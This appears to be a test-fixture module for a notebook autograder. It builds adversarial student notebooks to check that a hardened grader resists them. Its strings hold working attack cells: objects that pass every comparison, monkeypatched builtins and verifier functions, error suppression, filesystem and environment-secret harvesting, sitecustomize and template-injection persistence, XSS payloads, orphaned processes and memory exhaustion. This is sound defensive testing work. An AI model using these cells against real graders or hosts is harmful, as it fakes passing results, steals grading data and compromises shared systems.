"""What a dishonest student tries, one notebook per attack class, each the blank release plus cells.

Every attack here worked against the one-phase grader (issue 11); against the two-phase grader
each must score what the blank notebook scores, change nothing outside its sandbox and leak
nothing into any feedback. Nothing here knows the answers: each starts from the blank release.
``MARKER`` is replaced by a per-run string, so a test can look for leftovers.
"""
from __future__ import annotations

import copy

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

# Objects that pass any comparison a test may make.
ALWAYS = """\
class Always:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getitem__(self, index): return Always()
    def __len__(self): return 10
    def __bool__(self): return True
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __call__(self, *args, **kwargs): return Always()
    def __getattr__(self, name): return Always()
for _name in [n for n in list(globals()) if not n.startswith("_") and globals()[n] is None]:
    globals()[_name] = Always()
"""

TRANSFORMERS = """\
import ast
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
class Gut(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Pass()]
        return node
ip.ast_transformers.append(Gut())
"""

HOOKS = ALWAYS + """\
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
def _pre(info):
    globals().update({n: Always() for n in ("squares", "inside", "picture")})
def _post(result):
    result.error_in_exec = None
    result.error_before_exec = None
ip.events.register("pre_run_cell", _pre)
ip.events.register("post_run_cell", _post)
"""

MONKEYPATCH = ALWAYS + """\
import builtins, inspect, sys
builtins.isinstance = lambda *args: True
builtins.range = lambda *args: [3] * 10
builtins.len = lambda obj: 10
try:
    import torch, verifier
    torch.allclose = lambda *args, **kwargs: True
    verifier.verify = lambda *args, **kwargs: "pass"
except ImportError:
    pass
# shadow the notebook's helpers and read whatever frames there are
math = Always()
Path = Always()
print([frame.function for frame in inspect.stack()])
"""

READER = """\
import glob, os, socket
found = []
roots = [r for r in os.listdir("/") if r not in ("usr", "proc", "sys", "dev", "lib", "lib64", "bin", "sbin")]
patterns = [f"/{r}/**/*.ipynb" for r in roots] + [f"/{r}/**/gradebook.db" for r in roots]
patterns += ["/root/.cache/**", "/tmp/**", "/proc/*/cmdline", "/proc/*/environ", os.path.expanduser("~/../**/*.ipynb")]
for pattern in patterns:
    for path in glob.glob(pattern, recursive=True)[:2000]:
        try:
            found.append((path, open(path, "rb").read(200_000).decode("utf-8", "replace")))
        except Exception:
            pass
for path, text in found:
    print("=====", path)
    print(text)
print(dict(os.environ))
for path in glob.glob("/tmp/**/pymp-*", recursive=True) + glob.glob("/tmp/**/*.sock", recursive=True):
    try:
        client = socket.socket(socket.AF_UNIX)
        client.connect(path)
        print("connected to", path)
    except Exception as error:
        print("could not connect", path, error)
"""

PLANTER = """\
import os
from pathlib import Path
payload = "{% raw %}{% endraw %}{{ ''.__class__.__mro__[1].__subclasses__() }}" + "<script>alert('MARKER')</script>"
for root in (os.environ.get("JUPYTER_DATA_DIR", ""), os.path.expanduser("~/.local/share/jupyter"), "/tmp/jupyter"):
    if root:
        folder = Path(root) / "nbconvert" / "templates" / "feedback"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "index.html.j2").write_text(payload)
config = Path(os.path.expanduser("~/.jupyter"))
config.mkdir(parents=True, exist_ok=True)
(config / "jupyter_nbconvert_config.py").write_text("open('/tmp/MARKER-planted', 'w').write('ran')")
for target in ("sitecustomize.py", "usercustomize.py"):
    Path(target).write_text("open('/tmp/MARKER-planted', 'w').write('ran')")
"""

LEFTOVER = """\
import os, sys, glob
print(glob.glob("/tmp/**/kernel-*.json", recursive=True)
      + glob.glob(os.path.expanduser("~/**/kernel-*.json"), recursive=True))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)  # MARKER"], {})
    os._exit(0)
"""

MEMORY = """\
import mmap, os
try:
    with open("/dev/shm/MARKER", "wb") as big:
        for _ in range(256):
            big.write(b"x" * (1 << 20))
except OSError as error:
    print("dev/shm:", error)
shared = mmap.mmap(-1, 3 << 30, flags=mmap.MAP_SHARED)
for offset in range(0, len(shared), 4096):
    shared[offset] = 1
print("survived")
"""

FLOOD_CELLS = [
    'print("x" * 3_000_000)',
    'from IPython.display import display, HTML, Javascript\n'
    'display({"text/plain": "y" * 3_000_000, "text/html": "<b>MARKER</b>"}, raw=True)\n'
    'display(HTML("<script>alert(\'MARKER\')</script><img src=x onerror=alert(1)><style>body{display:none}</style>"))\n'
    'display(Javascript("alert(\'MARKER\')"))',
    '"z" * 3_000_000',
    'raise ValueError("w" * 3_000_000)',
]
FLOOD_MARKDOWN = "<script>alert('MARKER')</script><img src=x onerror=alert(1)><style>body{display:none}</style>"

ATTACKS = {"transformers": [TRANSFORMERS], "hooks": [HOOKS], "monkeypatch": [MONKEYPATCH], "reader": [READER],
           "planter": [PLANTER], "leftover": [LEFTOVER], "memory": [MEMORY], "flood": FLOOD_CELLS}


BEFORE_EACH_TEST = {"monkeypatch"}  # attacks that must run after the blank answers set their names


def _is_test(cell: NotebookNode) -> bool:
    meta = cell.get("metadata", {}).get("nbgrader", {})
    return bool(meta.get("grade")) and not meta.get("solution")


def attack(release: NotebookNode, kind: str, marker: str) -> NotebookNode:
    """The blank release with the cells of attack `kind` after its first code cell (or, for
    BEFORE_EACH_TEST, before every test cell)."""
    notebook = copy.deepcopy(release)

    def cells():
        made = [new_code_cell(code.replace("MARKER", marker)) for code in ATTACKS[kind]]
        if kind == "flood":
            made.append(new_markdown_cell(FLOOD_MARKDOWN.replace("MARKER", marker)))
        return made

    if kind in BEFORE_EACH_TEST:
        notebook.cells = [new for cell in notebook.cells for new in ((cells() if _is_test(cell) else []) + [cell])]
    else:
        first_code = next(i for i, cell in enumerate(notebook.cells) if cell.cell_type == "code")
        notebook.cells[first_code + 1:first_code + 1] = cells()
    notebook.nbformat_minor = min(notebook.nbformat_minor, 4)
    for cell in notebook.cells:
        cell.pop("id", None)
    return notebook
